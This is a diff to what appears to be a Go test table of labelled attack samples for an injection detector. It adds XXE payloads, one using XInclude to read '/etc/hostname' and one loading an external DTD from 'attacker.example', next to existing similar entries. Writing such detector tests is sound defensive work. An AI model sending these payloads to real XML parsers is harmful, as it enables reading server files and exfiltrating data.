@@ -58,6 +58,8 @@ func init() {
 		attackEntry{lJ, "svg", `<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/2001/XInclude"><x:include href="http://attacker.example/a"/></svg>`, "xxe-external-entity", encURL},
 		attackEntry{lF, "data", `<!ENTITY % ext SYSTEM "http://attacker.example/x.dtd"> %ext;`, "xxe-external-entity", encURL},
 		attackEntry{lQ, "q", "x!ENTITY % p PUBLIC", "xxe-external-entity", encURL},
+		attackEntry{lC, "state", `<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/hostname" parse="text"/></r>`, "xxe-external-entity", encURL},
+		attackEntry{lP, "3", `<!ENTITY % d SYSTEM "http://attacker.example/d.dtd">`, "xxe-external-entity", encURL},
 	)
 	benign = append(benign,
 		// Hosts in prose, hosts without a path or port, public hosts.
